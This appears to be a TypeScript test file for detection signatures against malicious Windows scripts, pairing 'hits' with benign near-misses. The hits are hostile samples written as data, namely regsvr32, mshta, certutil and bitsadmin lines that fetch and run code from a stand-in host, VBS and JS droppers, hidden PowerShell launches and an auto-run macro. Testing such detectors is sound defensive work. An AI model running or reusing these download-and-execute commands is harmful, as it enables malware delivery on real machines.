import { BAT, HTML, JS, MARKDOWN, testSignatures, VBS } from '../../test/signature-rows.ts'
import { windowsScriptSignatures } from './windows-script.ts'

testSignatures(windowsScriptSignatures, {
  'script-runs-remote-code': {
    hits: [
      [BAT, '@echo off\nregsvr¦32 /s /n /u /i:http://10.0.0.1/x.sct scrobj.dll'],
      [BAT, 'certu¦til -urlcache -split -f http://10.0.0.1/a.exe %TEMP%\\a.exe & start %TEMP%\\a.exe'],
      [BAT, '@echo off\nmsh¦ta http://10.0.0.1/a.hta'],
      [BAT, '@echo off\ncertu¦til -decode a.txt a.exe\nstart a.exe'],
      [BAT, 'bitsad¦min /transfer a /priority high http://10.0.0.1/a.exe %TEMP%\\a.exe\n%TEMP%\\a.exe'],
      [VBS, 'CreateObject("WScript.Shell").Run "rundll¦32.exe javascript:\\..\\mshtml,RunHTMLApplication"'],
    ],
    nearMisses: [
      [
        BAT,
        '@echo off\ncertutil -hashfile setup.exe SHA256\nrundll32 user32.dll,LockWorkStation\nregsvr32 /s control.ocx',
      ],
      [
        MARKDOWN,
        '# LOLBAS\n\n`regsvr¦32 /s /n /u /i:http://10.0.0.1/x.sct scrobj.dll`\n`msh¦ta http://10.0.0.1/x.hta`\n',
      ],
    ],
  },
  'script-dropper': {
    hits: [
      [
        VBS,
        'Set x = CreateObject("MSXML2.XML¦HTTP"): Set s = CreateObject("ADODB.¦Stream")\ns.SaveToFile "a.exe"\nCreateObject("WScript.¦Shell").Run "a.exe"',
      ],
      [
        JS,
        'var s = new ActiveXObject("WScript.¦Shell"), x = new ActiveXObject("Microsoft.XML¦HTTP"), a = new ActiveXObject("ADODB.¦Stream"); a.SaveTo¦File("x.exe"); s.Run("x.exe")',
      ],
    ],
    nearMisses: [
      [VBS, 'Set sh = CreateObject("WScript.Shell")\nsh.Run "notepad.exe readme.txt"\nWScript.Echo "done"'],
    ],
  },
  'script-starts-hidden-command': {
    hits: [
      [
        HTML,
        '<html><hta:appli¦cation id="a"><script language="VBScript">CreateObject("WScript.¦Shell").Run "power¦shell -w hidden -nop -c x", 0</script></html>',
      ],
      [VBS, 'Set s = CreateObject("WScript.¦Shell")\ns.Run "power¦shell -nop -c x", 0'],
    ],
    nearMisses: [[VBS, 'Set s = CreateObject("WScript.Shell")\ns.Run "powershell -File build.ps1", 1, True']],
  },
  'script-hidden-by-arithmetic': {
    hits: [[VBS, `Execute(${'Chr(87) & '.repeat(40)}Chr(10))`.replace('Chr(87)', 'C¦hr(87)')]],
    nearMisses: [[VBS, 'Execute "x = 1"\nMsgBox Chr(34) & "quoted" & Chr(34)']],
  },
  'macro-dropper': {
    hits: [
      [
        'text/x-vb',
        'Private Declare Function URLDown¦loadToFile Lib "urlmon" ()\nSub Auto¦Open()\n  Shell ("a.exe")\nEnd Sub',
      ],
    ],
    nearMisses: [['text/x-vb', 'Sub Auto_Open()\n  MsgBox "Welcome"\nEnd Sub']],
  },
  'html-application': {
    hits: [
      [
        HTML,
        '<hta:appli¦cation><script>new ActiveX¦Object("Shell.Application").Shell¦Execute("calc")</script>',
      ],
    ],
    nearMisses: [
      [HTML, '<p>An <code>&lt;hta:application&gt;</code> may say CreateObject("WScript.Shell").Run.</p>'],
    ],
  },
})
